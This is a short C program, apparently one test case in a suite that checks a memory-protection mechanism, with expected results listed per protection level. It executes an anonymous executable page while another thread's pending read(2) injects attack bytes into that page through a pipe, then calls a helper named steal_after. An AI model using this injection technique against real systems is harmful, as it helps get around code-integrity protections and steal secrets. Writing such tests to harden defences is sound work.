/* none: succeeds: secret; keys: succeeds: secret; full: ends "read of kernel memory" */
#define ATTACK_OPENS
#include <pthread.h>
#include <sched.h>

#include "attack.h"

/* A thread waits in read(2) for what goes to a page; meanwhile the page is executed, and then the bytes come. */
#define YIELDS 200 /* so that it waits by then */

static char *code;
static int ends[2];

static void *wait_for_bytes(void *unused)
{
	if (read(ends[0], code, OPEN_ALL_SIZE) != OPEN_ALL_SIZE)
		say("read: %s\n", strerrorname_np(errno));
	return unused;
}

int main(void)
{
	pthread_t thread;

	code = map(1, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1);
	code[0] = (char)0xc3;
	if (pipe(ends) || pthread_create(&thread, NULL, wait_for_bytes, NULL))
		return 2;
	for (int i = 0; i < YIELDS; i++)
		sched_yield();
	((void (*)(void))code)();
	if (write(ends[1], open_all, OPEN_ALL_SIZE) != OPEN_ALL_SIZE)
		return 2;
	pthread_join(thread, NULL);
	steal_after(code, 0);
	return 0;
}
